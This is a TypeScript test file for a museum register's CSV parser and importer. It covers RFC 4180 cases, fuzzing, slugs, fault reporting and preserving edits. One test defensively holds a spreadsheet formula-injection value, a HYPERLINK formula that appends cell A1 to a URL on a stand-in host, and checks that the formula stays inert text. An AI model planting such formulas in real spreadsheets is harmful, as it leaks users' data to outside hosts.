import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { readContent } from '../../../src/pipeline/content.ts';
import { importRegister } from '../../../src/pipeline/register/import-register.ts';
import { registerReportText } from '../../../src/pipeline/register/register-report.ts';
import { csvTable } from '../../../src/publish/plate-table.ts';
import { parseCsv, separatorOf } from '../../../src/records/register/csv.ts';
import { mappingSchema } from '../../../src/records/register/mapping.ts';
import { readRegisterRow, slugOf } from '../../../src/records/register/register-plate.ts';
import { readFrontMatter } from '../../../src/records/yaml-door.ts';

describe('parseCsv', () => {
  test('reads what RFC 4180, section 2 gives as examples', () => {
    const text = 'aaa,bbb,ccc\r\n"a","b\r\nbb","c"\r\nzzz,"y ""y""",\r\n';
    const { rows, faults } = parseCsv(text);
    expect(faults).toEqual([]);
    expect(rows.map(({ cells }) => cells)).toEqual([
      { aaa: 'a', bbb: 'b\r\nbb', ccc: 'c' },
      { aaa: 'zzz', bbb: 'y "y"', ccc: '' },
    ]);
    expect(rows.map(({ line }) => line)).toEqual([2, 4]);
  });

  test('finds the sign between the cells, quotes aside', () => {
    expect(separatorOf('"a,b,c,d";e;f\n1;2;3')).toBe(';');
    expect(separatorOf('a\tb\n')).toBe('\t');
  });

  test('keeps the rows after a quote that is never closed', () => {
    const { rows, faults } = parseCsv('a,b\n"open,1\nx,2\n');
    expect(faults).toEqual([
      { line: 2, message: 'A quote is opened and not closed, or stands inside a quoted cell.' },
    ]);
    expect(rows.map(({ cells }) => cells)).toEqual([{ a: 'x', b: '2' }]);
  });

  test('reads back what the exhibit publishes', () => {
    const row = { slug: 'a', title: 'A "b", c', maker: ['X', 'Y'], width: 70, credit: null };
    const { rows } = parseCsv(csvTable([row]));
    expect(rows[0].cells).toEqual({
      slug: 'a',
      title: 'A "b", c',
      maker: 'X; Y',
      width: '70',
      credit: '',
    });
  });
});

describe('a table that anybody may have written', () => {
  const piece = fc.constantFrom(
    ...[
      '"',
      '""',
      ',',
      ';',
      '\t',
      '|',
      '\n',
      '\r\n',
      '\r',
      ' ',
      '\uFEFF',
      '\0',
      'a',
      'é',
      '🪞',
      '=',
    ],
  );
  const text = fc.oneof(
    fc.string(),
    fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join('')),
  );

  test('is read to its end, each row under the columns and on a line of the file', () => {
    fc.assert(
      fc.property(text, (source) => {
        const { columns, rows, faults } = parseCsv(source);
        const lines = source.split('\n').length;
        for (const { line } of [...rows, ...faults]) {
          expect(line).toBeGreaterThanOrEqual(1);
          expect(line).toBeLessThanOrEqual(lines);
        }
        for (const { cells } of rows)
          expect(columns).toEqual(expect.arrayContaining(Object.keys(cells)));
      }),
      { numRuns: 1000 },
    );
  });

  test('comes back from what the exhibit publishes, and no cell of that is a formula', () => {
    // Without blanks around it, as the records' texts are.
    const word = text.map((one) => one.trim());
    const titles = fc.array(word, { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(titles, (values) => {
        const published = csvTable(values.map((title, k) => ({ slug: `p-${k}`, title })));
        const { rows } = parseCsv(published, ',');
        expect(rows.map(({ cells }) => cells['title'].replace(/^'(?=[=+\-@])/, ''))).toEqual(
          values.map((title) => title.replace(/^'(?=[=+\-@])/, '')),
        );
        for (const { cells } of rows) expect(cells['title']).not.toMatch(/^[=+\-@]/);
      }),
      { numRuns: 500 },
    );
  });

  test('a formula is taken as the text that it is, with or without its apostrophe', async () => {
    const mapping = mappingSchema.parse({ slug: 'slug', fields: { title: 'title' } });
    const formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"x")';
    for (const cell of [formula, `'${formula}`]) {
      const row = { line: 2, cells: { slug: 'p-1', title: cell } };
      const read = readRegisterRow(row, mapping);
      expect(read.ok && read.plate.fields['title']).toBe(formula);
    }
    const folder = await mkdtemp(join(tmpdir(), 'mirrorleaf-formula-'));
    const text = csvTable([{ slug: 'p-1', title: formula }]);
    await importRegister({ text, mapping, content: folder, dryRun: false });
    // As YAML it is a string, whatever it begins with.
    const record = await readFile(join(folder, 'plates/p-1/plate.md'), 'utf8');
    const read = readFrontMatter(
      { plate: 'p-1', file: 'plate.md', text: record },
      z.looseObject({}),
    );
    expect(read.ok && read.value['title']).toBe(formula);
    await rm(folder, { recursive: true });
  });
});

test('slugOf makes addresses of inventory numbers', () => {
  expect(slugOf('FQ 1911.14 (a)')).toBe('fq-1911-14-a');
  expect(slugOf('Évêché n° 3')).toBe('eveche-n-3');
  expect(slugOf('—')).toBe('');
});

describe('a register of a thousand rows with faults', () => {
  let folder: string;
  const mapping = mappingSchema.parse({
    slug: 'Inv. no.',
    fields: {
      title: 'Titel',
      objectNumber: 'Inv. no.',
      process: { column: 'Technik', words: { Daguerreotypie: 'daguerreotype' } },
      date: 'Datum',
      maker: { column: 'Urheber', separator: ';' },
      width: 'Breite',
      height: 'Höhe',
      rights: { value: 'http://rightsstatements.org/vocab/NKC/1.0/' },
    },
    ignore: ['Standort'],
  });
  /** Every fault by the row (from 1) that has it; the others are good. */
  const faulty: Readonly<Record<number, string>> = {
    10: ';Ohne Nummer;Daguerreotypie;1850;;70;83;R1;',
    20: 'FQ 20;;Daguerreotypie;1850;;70;83;R1;',
    30: 'FQ 30;Titel 30;Papier?;1850;;70;83;R1;',
    40: 'FQ 40;Titel 40;Daguerreotypie;um 1850;;70;83;R1;',
    50: 'FQ 50;Titel 50;Daguerreotypie;1850;;siebzig;83;R1;',
    60: 'FQ 59;Zweimal;Daguerreotypie;1850;;70;83;R1;',
    70: 'FQ 70;Zu viele;Daguerreotypie;1850;;70;83;R1;x;y;z',
    80: 'FQ 80;"Nie geschlossen;Daguerreotypie;1850;;70;83;R1;',
    90: 'FQ 90;Titel 90;Daguerreotypie;1850;;;83;R1;',
  };
  const good = (k: number) =>
    `FQ ${k};"Titel; ${k}";Daguerreotypie;${1840 + (k % 20)};A. Maker; B. Other;${'70,5'};83;R1;`.replace(
      'A. Maker; B. Other',
      '"A. Maker; B. Other"',
    );
  const text = [
    'Inv. no.;Titel;Technik;Datum;Urheber;Breite;Höhe;Standort;Bemerkung',
    ...Array.from({ length: 1000 }, (_, k) => faulty[k + 1] ?? good(k + 1)),
  ].join('\r\n');

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'mirrorleaf-register-'));
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));
  const run = (dryRun: boolean) => importRegister({ text, mapping, content: folder, dryRun });

  test('is looked at without anything being written', async () => {
    const report = await run(true);
    expect(report.rows).toBe(1000);
    expect(report.made.length).toBe(995);
    expect(await readdir(folder)).toEqual([]);
  });

  test('comes in row by row, and every fault is told with its line and column', async () => {
    const report = await run(false);
    // The head is line 1. Five rows give no plate: no number, no title, twice, too long, open quote.
    expect(report.refused).toEqual([11, 21, 61, 71, 81]);
    const told = report.problems.map(({ line, column }) => `${line} ${column}`);
    expect(told).toEqual([
      '11 Inv. no.',
      '21 Titel',
      '31 Technik',
      '41 Datum',
      '51 Breite',
      '51 size',
      '61 Inv. no.',
      '71 ',
      '81 ',
      '91 size',
    ]);
    expect(report.unmapped).toEqual(['Bemerkung']);
    expect(report.absent).toEqual([]);
    const written = registerReportText(report, false);
    expect(written).toContain('1000 rows: 995 plates made');
    expect(written).toContain('line 41, Datum: "um 1850"; expected a date as EDTF');
  });

  test('makes records that the program itself takes, but for what a person must do', async () => {
    const { plates } = await readContent(folder);
    expect(plates.length).toBe(995);
    const one = plates.find(({ slug }) => slug === 'fq-1');
    expect(one?.record).toMatchObject({
      title: 'Titel; 1',
      process: 'daguerreotype',
      date: '1841',
      size: [70.5, 83],
      maker: [{ name: 'A. Maker' }, { name: 'B. Other' }],
    });
    expect(plates.every(({ record }) => record !== null)).toBe(true);
  });

  test('never changes what a person wrote; a second import shows the differences', async () => {
    const place = join(folder, 'plates', 'fq-2', 'plate.md');
    const before = await readFile(place, 'utf8');
    const edited = before.replace('title: Titel; 2', 'title: A better title');
    expect(edited).not.toBe(before);
    await writeFile(place, edited);
    const report = await run(false);
    expect(report.made).toEqual([]);
    expect(report.same.length).toBe(994);
    expect(report.differing).toEqual([
      {
        slug: 'fq-2',
        differences: [{ field: 'title', register: 'Titel; 2', plate: 'A better title' }],
      },
    ]);
    expect(await readFile(place, 'utf8')).toBe(edited);
  });
});
